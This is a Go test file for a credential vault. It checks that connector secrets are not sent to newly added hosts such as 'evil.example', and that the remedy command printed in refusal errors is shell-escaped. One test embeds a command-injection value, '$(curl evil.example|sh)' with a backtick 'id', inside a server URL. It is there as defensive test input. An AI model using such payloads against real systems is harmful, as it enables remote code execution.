package core_test

import (
	"slices"
	"strings"
	"testing"

	connectorv1 "github.com/ferrule-dev/ferrule/gen/go/ferrule/connector/v1"
	"github.com/ferrule-dev/ferrule/pkg/fault"
	"github.com/ferrule-dev/ferrule/services/credential-vault/internal/core"
)

// keyed makes ann's connection with a key, to a connector at the servers.
func keyed(t *testing.T, servers ...string) *login {
	t.Helper()
	l := newLogin(t)
	l.publish(servers...)
	l.connect(func(d *core.Draft) { d.ParameterSet, d.Parameters, d.Secrets = "key", nil, texts("api_key", "first") })
	return l
}

// publish makes the servers those of the connector. A host may have a region.
func (l *login) publish(servers ...string) {
	l.moveAPI(servers...)
	def := l.defs.definitions["crm"]
	for _, s := range def.GetServers() {
		if strings.Contains(s.GetUrlTemplate(), "{region}") {
			s.Variables = []*connectorv1.ServerVariable{{Name: "region", DefaultValue: "eu"}}
		}
	}
	def.ParameterSets[1].Parameters = append(def.GetParameterSets()[1].GetParameters(), &connectorv1.ConnectionParameter{Name: "region", Type: typeString})
}

// goesTo returns where what is lent may be sent, and the key.
func (l *login) goesTo() ([]string, string, error) {
	lent, err := l.vault.Resolve(l.t.Context(), through("runtime-proxy", ann()), core.Request{Name: name("crm-1"), OperationID: "op"})
	if err != nil {
		return nil, "", err
	}
	return lent.Origins, valuesOf(lent)["api_key"], nil
}

const honestAPI = "https://api.crm.example/v1"

func TestANewSecretIsNoConsentToTheHostsThatAConnectorHasGained(t *testing.T) {
	for what, c := range map[string]struct {
		servers []string
		edit    core.Edit
		fields  []core.Field
		refused bool
	}{
		"the key alone":                        {[]string{honestAPI, evilAPI}, core.Edit{}, nil, false},
		"the key and a title":                  {[]string{honestAPI, evilAPI}, core.Edit{DisplayName: "x"}, []core.Field{core.FieldDisplayName}, false},
		"the key and a part of another host":   {[]string{honestAPI, "https://{region}.evil.example"}, core.Edit{Parameters: map[string]string{"region": "us"}}, []core.Field{core.FieldParameters}, true},
		"the key, and nothing is left":         {[]string{evilAPI}, core.Edit{}, nil, true},
		"the key and what is there, unchanged": {[]string{honestAPI, evilAPI}, core.Edit{}, []core.Field{core.FieldParameters, core.FieldServerURL, core.FieldPinnedRevision}, false},
	} {
		t.Run(what, func(t *testing.T) {
			l := keyed(t, honestAPI)
			l.publish(c.servers...)
			c.edit.Secrets = texts("api_key", "second")
			_, err := l.edited(c.edit, c.fields...)
			if c.refused {
				wantReason(t, err, fault.ReasonHostNotAllowed)
				if !strings.Contains(err.Error(), "evil.example") || !strings.Contains(err.Error(), "--server-url") {
					t.Errorf("%q does not say where it would go, and what to do", err)
				}
				return
			}
			hosts, key, lendErr := l.goesTo()
			if err != nil || lendErr != nil || key != "second" || !slices.Equal(hosts, []string{"https://api.crm.example"}) {
				t.Errorf("%q is lent for %v: %v, %v", key, hosts, err, lendErr)
			}
		})
	}
}

// TestTheRemedyThatARefusalPrintsWorks, also where the connector has one server, which
// is the new one.
func TestTheRemedyThatARefusalPrintsWorks(t *testing.T) {
	const moved = "https://api2.crm.example/v1"
	t.Run("for a key", func(t *testing.T) {
		l := keyed(t, honestAPI)
		l.publish(moved)
		_, _, err := l.goesTo()
		wantReason(t, err, fault.ReasonHostNotAllowed)
		if !strings.Contains(err.Error(), "--server-url "+moved) {
			t.Errorf("%q does not name the server", err)
		}
		if _, err := l.edited(core.Edit{ServerURL: moved}, core.FieldServerURL); err == nil {
			t.Error("whoever does not know the key moves it")
		}
		if _, err := l.edited(core.Edit{ServerURL: moved, Secrets: texts("api_key", "first")}, core.FieldServerURL); err != nil {
			t.Fatal(err)
		}
		if hosts, _, err := l.goesTo(); err != nil || !slices.Equal(hosts, []string{"https://api2.crm.example"}) {
			t.Errorf("got %v, %v", hosts, err)
		}
	})
	t.Run("for a sign-in", func(t *testing.T) {
		l := newLogin(t)
		clientsOfOthers["a client of one's own with a secret"](l)
		l.signIn()
		l.moveAPI(moved)
		_, err := l.vault.StartAuthorization(t.Context(), ann(), core.SignIn{Connection: name("crm-1")})
		wantReason(t, err, fault.ReasonHostNotAllowed)
		if _, err := l.edited(core.Edit{ServerURL: moved}, core.FieldServerURL); err != nil {
			t.Fatal(err)
		}
		l.signIn()
		if _, err := l.lent(); err != nil {
			t.Errorf("the remedy does not help: %v", err)
		}
	})
}

func TestARemedyRunsNothingThatAMakerWrote(t *testing.T) {
	l := keyed(t, honestAPI)
	l.publish("https://api2.crm.example/v1/$(curl evil.example|sh)'`id`")
	_, _, err := l.goesTo()
	wantReason(t, err, fault.ReasonHostNotAllowed)
	if want := `--server-url 'https://api2.crm.example/v1/$(curl evil.example|sh)'\''` + "`id`'"; !strings.Contains(err.Error(), want) {
		t.Errorf("%q has no %q", err, want)
	}
}
